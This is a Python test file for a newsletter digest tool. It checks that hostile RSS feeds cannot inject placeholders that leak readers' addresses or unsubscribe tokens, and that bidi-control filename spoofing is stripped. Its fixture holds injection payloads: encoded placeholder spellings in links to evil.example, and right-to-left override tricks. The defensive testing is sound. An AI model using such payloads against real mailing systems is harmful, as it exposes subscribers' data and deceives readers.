"""Third-party content carries nothing into a reader's message but itself.

A feed cannot make digest fill in readers' addresses or unsubscribe links where it writes
placeholder syntax (in any spelling), and cannot reorder what readers see with bidi controls.
Everything goes through the CLI, a local feed server and a real SMTP server.
"""

from __future__ import annotations

import json
import re
import textwrap
from datetime import UTC, date, datetime
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from urllib.parse import unquote, urlsplit

from digest.approval import move
from digest.models import EditionState, Publication, Story
from digest.render import placeholders
from digest.render.edition import render_edition
from digest.render.environment import make_environment
from digest.store import Revision
from digest.testing.smtp import SMTPSink
from digest.tokens import UNSUBSCRIBE_SALT, Signer, read_unsubscribe_token

from conftest import SECRET, Project

READERS = ("anna@example.org", "ben@example.net", "dmitri@example.org")

# The placeholder syntax as a hostile feed might spell it: plain, mixed case, percent- and
# entity-encoded (the XML's own entities are decoded by the parser), and a mixture.
PLAIN = "__DIGEST_EMAIL__"
SPELLINGS = (
    PLAIN,
    "__DIGEST_UNSUBSCRIBE_URL__",
    "__digest_Email__",
    "%5F%5FDIGEST%5FEMAIL%5F%5F",
    "&amp;#95;&amp;#95;DIGEST&amp;#95;EMAIL&amp;#95;&amp;#95;",  # "&#95;" in the link text
    "_%5FDIGEST_%5fUNSUBSCRIBE_URL__",
    "%255F%255FDIGEST%255FEMAIL%255F%255F",  # encoded twice
)


def _hostile_feed() -> bytes:
    items = []
    for n, spelling in enumerate(SPELLINGS):
        items.append(f"""
    <item>
      <title>Prize {n} for __DIGEST_NAME__ {spelling} gnp\u202e.exe</title>
      <link>https://evil.example/{n}?e={spelling}&amp;u=__DIGEST_UNSUBSCRIBE_URL__</link>
      <description>Dear __DIGEST_GREETING_NAME__ {spelling}, see \u2066inside\u2069.</description>
      <category>World</category>
      <pubDate>Tue, 24 Nov 2026 0{n % 6}:00:00 GMT</pubDate>
      <media:content url="https://evil.example/img/{n}.jpg?who={spelling}" medium="image">
        <media:description>Caption {spelling} __DIGEST_PREFERENCES_URL__</media:description>
        <media:credit>Credit {spelling}</media:credit>
      </media:content>
    </item>""")
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>'
        "<title>Evil \u202egnp.exe</title><link>https://evil.example/</link>"
        + "".join(items)
        + "</channel></rss>"
    ).encode()


def _configure(project: Project, smtp: SMTPSink) -> None:
    project.feeds.route("/evil.rss", _hostile_feed())
    sources = textwrap.dedent(f"""\
        sources:
          - name: World Desk
            url: {project.feeds.url("/world.rss")}
            allow_private: true
          - name: Evil Wire
            url: {project.feeds.url("/evil.rss")}
            allow_private: true
        """)
    project.write_config(
        "smtp",
        {"host": smtp.host, "port": smtp.port, "security": "none"},
        extra="images:\n  mode: hotlink\nranking:\n  max_stories: 15\n  max_per_source: 10\n",
        sources=sources,
    )


def _messages(smtp: SMTPSink) -> dict[str, EmailMessage]:
    out = {}
    for raw in smtp.messages:
        msg = BytesParser(policy=policy.default).parsebytes(raw.data)
        assert isinstance(msg, EmailMessage)
        out[raw.rcpt_tos[0]] = msg
    return out


def _bodies(msg: EmailMessage) -> tuple[str, str]:
    text, html = (p.get_content() for p in msg.iter_parts())
    return text, html


def test_feed_placeholders_reach_no_reader(project: Project, smtp_server: SMTPSink) -> None:
    _configure(project, smtp_server)
    built = project.cli("build", "--json")
    assert built.exit_code == 0, built.output
    edition = str(json.loads(built.stdout)["id"])
    assert project.cli("approve", edition, "--by", "Editor").exit_code == 0
    sent = project.cli("send", edition)
    assert sent.exit_code == 0, sent.output

    received = _messages(smtp_server)
    assert sorted(received) == sorted(READERS)
    signer = Signer([SECRET], salt=UNSUBSCRIBE_SALT)
    tokens = {}
    for rcpt, msg in received.items():
        url = re.search(r"<(https://[^>]+)>", msg["List-Unsubscribe"])
        assert url
        tokens[rcpt] = urlsplit(url.group(1)).path.rsplit("/", 1)[1]
        assert read_unsubscribe_token(signer, tokens[rcpt]) == rcpt

    evil_stories = 0
    for rcpt, msg in received.items():
        text, html = _bodies(msg)
        whole = msg.as_string()
        assert "Prize" in text, "the hostile stories are in the edition (else nothing is tested)"
        evil_stories += text.count("https://evil.example/")
        # No other reader's address or unsubscribe token anywhere in this reader's message.
        for other in READERS:
            if other != rcpt:
                assert other not in whole
                assert tokens[other] not in whole
        # Nothing of any reader inside a third-party URL, however it is spelled there.
        links = re.findall(r"https://evil\.example/[^\s\"'<>]*", text + html)
        assert links
        for link in links:
            decoded = unquote(unquote(link)).replace("&amp;", "&").replace("&#95;", "_")
            for reader in READERS:
                assert reader not in decoded
                assert tokens[reader] not in decoded
            assert "news.example.org/u/" not in decoded
        # The reader's own visible unsubscribe link still works, in both parts.
        own = f"https://news.example.org/u/{tokens[rcpt]}"
        assert own in text
        assert own in html
        # No placeholder syntax reaches a reader, filled or not.
        assert "__digest_" not in (text + html).lower()
        # Bidi controls from the feed are gone (title, teaser, source name).
        for control in ("\u202e", "\u2066", "\u2069"):
            assert control not in whole
        assert "gnp.exe" in text
    assert evil_stories >= 3


def test_bidi_controls_never_reach_subject_archive_or_feed(
    project: Project, smtp_server: SMTPSink
) -> None:
    rss = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        "<title>t</title><link>https://spoof.example/</link><item>"
        "<title>Invoice \u202egnp.exe\u202c ready \u2067now\u2069 \u200fok</title>"
        "<link>https://spoof.example/a</link>"
        "<description>Open \u202dthe\u202a file\u202b.</description>"
        "<pubDate>Tue, 24 Nov 2026 05:00:00 GMT</pubDate></item></channel></rss>"
    ).encode()
    project.feeds.route("/spoof.rss", rss)
    sources = textwrap.dedent(f"""\
        sources:
          - name: Spoof
            url: {project.feeds.url("/spoof.rss")}
            allow_private: true
        """)
    project.write_config(
        "smtp",
        {"host": smtp_server.host, "port": smtp_server.port, "security": "none"},
        sources=sources,
    )
    built = project.cli("build", "--json")
    assert built.exit_code == 0, built.output
    edition = str(json.loads(built.stdout)["id"])
    assert project.cli("approve", edition, "--by", "Editor").exit_code == 0
    assert project.cli("send", edition).exit_code == 0, "send"
    msg = _messages(smtp_server)["anna@example.org"]
    # The subject (from the lead's title), both parts: the letters in the order they came.
    assert "Invoice gnp.exe ready now \u200fok" in str(msg["Subject"])
    text, _html = _bodies(msg)
    assert "Open the file." in text
    out = project.root / "site"
    exported = project.cli("archive", "export", str(out))
    assert exported.exit_code == 0, exported.output
    pages = [p.read_text(encoding="utf-8") for p in out.rglob("*") if p.is_file()]
    assert any("Invoice gnp.exe ready" in p for p in pages)
    for page in [msg.as_string(), *pages]:
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", page)


def test_an_edition_frozen_before_markers_still_sends(
    project: Project, smtp_server: SMTPSink
) -> None:
    """Editions approved before this change hold the canonical tokens and marker "": the
    send fills those in, as it always did."""
    _configure(project, smtp_server)
    stories = [
        Story(
            url=f"https://world.example.org/{n}",
            title=f"Old story {n}",
            teaser="Frozen before markers existed.",
            source="World Desk",
            published=datetime(2026, 11, 24, 5, tzinfo=UTC),
        )
        for n in range(3)
    ]
    rendered = render_edition(
        make_environment(),
        stories=stories,
        publication=Publication(
            name="The Morning Brief",
            sender="The Morning Brief <brief@news.example.org>",
            base_url="https://news.example.org",
            postal_address="1 Example Street, Berlin",
        ),
        edition_date=date(2026, 11, 24),
        marker="",
    )
    assert rendered.marker == ""
    assert placeholders.UNSUBSCRIBE_URL in rendered.html
    now = datetime(2026, 11, 24, 5, tzinfo=UTC)
    store = project.open_store()
    try:
        with store.transaction() as tx:
            edition_id = tx.insert_edition(
                slot="old", revision=Revision(stories, rendered, []), now=now, warnings=[]
            )
        edition = store.get_edition(edition_id)
        assert edition.rendered.marker == ""
        for state in (EditionState.PENDING_APPROVAL, EditionState.APPROVED):
            edition = move(store, edition, state, actor="Editor", via="cli", now=now)
    finally:
        store.close()
    sent = project.cli("send", str(edition_id))
    assert sent.exit_code == 0, sent.output
    received = _messages(smtp_server)
    assert sorted(received) == sorted(READERS)
    for rcpt, msg in received.items():
        text, html = _bodies(msg)
        assert "__DIGEST_" not in text + html
        assert f"subscribed to The Morning Brief as {rcpt}" in " ".join(text.split())
        url = re.search(r"<(https://[^>]+)>", msg["List-Unsubscribe"])
        assert url
        assert url.group(1) in text
